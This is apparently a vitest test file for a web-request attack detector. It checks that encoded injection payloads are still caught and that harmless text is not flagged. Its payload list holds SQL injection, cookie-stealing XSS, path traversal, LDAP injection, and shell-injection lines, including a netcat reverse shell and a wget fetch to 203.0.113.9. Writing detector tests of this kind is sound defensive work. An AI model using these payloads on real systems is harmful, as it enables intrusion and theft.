import { expect, test } from 'vitest';
import { findSignatures } from '../../../src/attacks/find-signatures.ts';
import type { HttpRequest } from '../../../src/attacks/request/http-request.ts';
import type { Example } from '../../../src/attacks/signature.ts';
import { evasions } from './evasions.ts';

const EMPTY: HttpRequest = { method: 'POST', path: '/', query: '', headers: {}, contentType: '', body: '' };

/** Attacks that leave the value they were put into, whichever database, shell or page reads it. */
const BREAK_OUTS: readonly string[] = [
  "1' UNION SELECT password FROM users-- ",
  "x' OR '1'='1",
  "x'; DROP TABLE members;--",
  "1') AND SLEEP(5)#",
  '"><script>alert(1)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  ';cat /etc/passwd',
  '; nc -e /bin/sh 203.0.113.9 4444',
  '127.0.0.1;wget http://203.0.113.9/a',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '*)(uid=*))(|(uid=*',
  "admin' || '1'=='1",
];

/** What nobody is to take for an attack, with words around it or without. */
const HARMLESS: readonly string[] = [
  "O'Brien and the d'Or family",
  'Tom & Jerry; cat food',
  'see ../docs/setup.md for the rest',
  'select all that apply from the list',
  'List<String> names = new ArrayList<>();',
  'if (a || b == 1) return true;',
  'npm ci && npm test',
  '| id | name |\n|----|------|\n| 1 | Ann |',
  'name;id;date\nAnn;7;2024-05-01',
  '(030) 1234 567, 16" or 18"',
];

/** Encodings that nothing is known to undo are a limit of the detector, not of its judgement. */
const forms = evasions.flatMap(({ name, forms: each }) =>
  Object.entries(each).map(([form, dress]) => [`${name}, ${form}`, dress] as const),
);

const isFound = (example: Example): boolean =>
  findSignatures({
    ...EMPTY,
    ...(typeof example === 'string' ? { query: `q=${encodeURIComponent(example)}` } : example),
  }).matches.length > 0;

test.each(forms)('an attack is found in disguise: %s', (_name, dress) => {
  expect(BREAK_OUTS.filter((attack) => !isFound(dress(attack)))).toEqual([]);
});

test.each(evasions.filter(({ isAround }) => isAround).map((each) => [each.name, each] as const))(
  'what is harmless stays so: %s',
  (_name, { forms: each }) => {
    const texts = HARMLESS.flatMap((text) => Object.values(each).map((dress) => dress(text)));
    expect(texts.filter(isFound)).toEqual([]);
  },
);
